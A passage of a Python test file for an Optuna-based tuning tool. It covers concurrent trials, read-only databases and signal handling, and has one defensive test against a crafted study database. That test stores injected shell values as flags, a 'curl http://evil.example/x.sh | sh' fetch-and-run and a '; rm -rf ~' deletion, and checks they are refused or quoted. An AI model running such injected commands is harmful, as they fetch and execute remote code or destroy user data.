    studies = [store.open_study(url, "s", "lenet", ["lr=0.0001:0.1:log"], seed=0) for _ in range(2)]

    def objective(trial):
        time.sleep(0.2)  # long enough that both commands are always under way at once
        return trial.suggest_float("lr", 1e-4, 0.1, log=True)
    threads = [threading.Thread(target=store.run_trials, args=(st, objective, 5)) for st in studies]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    trials = store.load(url, "s").trials
    assert sum(t.state.name == "COMPLETE" for t in trials) == 5  # the total, however the two raced
    assert all(t.user_attrs.get("surplus") for t in trials if t.state.name != "COMPLETE")  # asked for too late: never run


def test_a_study_database_that_cannot_be_written_is_a_one_line_error(tmp_path, capsys):
    """A read-only SQLite connection (what a chmod 444 file is to anyone but root): exit 2, one line."""
    from studies import store

    store.open_study(f"sqlite:///{tmp_path / 'optuna.db'}", "lenet-search", "lenet", ["lr=0.001:0.01"])
    read_only = f"sqlite:///file:{tmp_path / 'optuna.db'}?mode=ro&uri=true"
    assert tune.main(["--model", "lenet", "--search", "lr=0.001:0.01", "--study", "other", "--storage", read_only,
                      "--gpus", "0"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [f"tune.py: error: --storage {read_only}: cannot write the study (attempt to write a readonly "
                   f"database); check that the database is writable and reachable, or pass another --storage"]


def test_a_crafted_study_database_never_reaches_a_printed_command_or_confirm(tmp_path, capsys):
    """A database that says lr=50 (outside the declared space) and stores flags with a shell command
    in them: `visualize.py study` prints no command from it, and `--confirm` runs nothing."""
    import optuna

    import visualize
    from studies import store

    logdir = tmp_path / "logs"
    url = store.default_url(logdir)
    study = store.open_study(url, "lenet-search", "lenet", ["lr=0.001:0.01"], flags=["--epochs", "2"])
    study.add_trial(optuna.trial.create_trial(params={"lr": 50.0}, value=0.99,
                                              distributions={"lr": optuna.distributions.FloatDistribution(0.001, 100)}))
    # --out: the default, figures/ in the working folder, is the repository when the suite runs
    assert visualize.main(["study", str(logdir), "--out", str(tmp_path / "fig")]) == 0
    out = capsys.readouterr().out
    assert (tmp_path / "fig" / "lenet-search_history.png").is_file()  # there, not in the repository
    assert "repeat it: (none: this study's database does not hold a trial tune.py wrote: the study's trial sets " \
           "lr=50.0, outside its search space lr=0.001:0.01)" in out and "train.py --model" not in out
    assert tune.main(["--model", "lenet", "--search", "lr=0.001:0.01", "--trials", "1", "--confirm", "1",
                      "--logdir", str(logdir), "--gpus", "0"]) == 2
    assert capsys.readouterr().err.strip().endswith("--confirm: the study's trial sets lr=50.0, outside its search "
                                                    "space lr=0.001:0.01")
    assert not (logdir / "lenet").exists()  # nothing was trained

    study.set_user_attr("flags", ["--epochs", "2; curl http://evil.example/x.sh | sh"])
    good = optuna.trial.create_trial(params={"lr": 0.005}, value=1.0,
                                     distributions={"lr": optuna.distributions.FloatDistribution(0.001, 100)})
    study.add_trial(good)
    from report.study import best_command

    assert best_command(store.load(url, None), "lenet").startswith("(none: ")  # flags train.py refuses
    study.set_user_attr("flags", ["--data-dir", "my data; rm -rf ~"])  # a valid path with odd characters
    assert best_command(store.load(url, None), "lenet") == \
        "python train.py --model lenet --data-dir 'my data; rm -rf ~' --set lr=0.005"  # quoted: one word


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()[:200]
    except OSError:
        return f"{pid} (gone)"


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc to find the processes left behind")
@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL], ids=lambda s: s.name)
def test_a_signal_to_the_workers_parent_alone_stops_every_worker_and_run(folder_data, tmp_path, own_tmpdir, how):
    """SIGINT to the parent only (not to its process group, as a terminal's Ctrl-C would): no worker
    and no run trains on, and the running trials are failed in the study, none left running. kill -9
    of the parent alone: no process of it trains on either (its trials stay running in the study
    until the heartbeat's grace ends: the next command fails them)."""
    from studies import store

    logdir = tmp_path / "logs"
    # Output to files, not pipes: a run left behind must not die of a closed pipe, only of its parent's end.
    with open(tmp_path / "out.txt", "w") as out, open(tmp_path / "err.txt", "w") as errors:
        # From another folder, without PYTHONPATH: the fork server must still find the project (Python 3.11's
        # imports its preload before it takes tune.py's sys.path).
        proc = subprocess.Popen(_tune(folder_data, logdir, "--trials", "4", "--workers", "2", "--prune", "none",
                                      "--epochs", "1000"), cwd=tmp_path, stdout=out, stderr=errors, start_new_session=True,
                                env={**{k: v for k, v in os.environ.items() if k != "PYTHONPATH"}, "TMPDIR": str(own_tmpdir)})
    try:
        deadline = time.time() + 120
        while len(list(logdir.glob("lenet/version_*/metrics.json"))) < 2 and time.time() < deadline:
            time.sleep(0.2)
        assert len(list(logdir.glob("lenet/version_*/metrics.json"))) == 2, (tmp_path / "err.txt").read_text()[-2000:]
        group = live_processes_in_group(proc.pid)
        assert len(group) >= 4, group  # tune.py, its fork server, two runs
        server = [p for p in group if b"forkserver import main" in Path(f"/proc/{p}/cmdline").read_bytes()
                  and Path(f"/proc/{p}/status").read_text().split("PPid:")[1].split()[0] == str(proc.pid)]
        assert len(server) == 1 and "libtorch" in Path(f"/proc/{server[0]}/maps").read_text()  # it imported torch once
        os.kill(proc.pid, how)
        proc.wait(timeout=120)
        err = (tmp_path / "err.txt").read_text()
        assert proc.returncode == (130 if how == signal.SIGINT else -how), err[-2000:]
        deadline = time.time() + 30
        while live_processes_in_group(proc.pid) and time.time() < deadline:
            time.sleep(0.2)
    finally:  # a failed assertion leaves nothing training behind for the rest of the suite
        left = [_cmdline(p) for p in live_processes_in_group(proc.pid)]
        if left:
            os.killpg(proc.pid, signal.SIGKILL)
    assert left == [], (tmp_path / "err.txt").read_text()[-2000:]  # none of tune.py's processes outlived it
    states = sorted(t.state.name for t in store.load(store.default_url(logdir), "lenet-search").trials)
    assert states == (["FAIL", "FAIL"] if how == signal.SIGINT else ["RUNNING", "RUNNING"]), \
        (tmp_path / "err.txt").read_text()[-2000:]
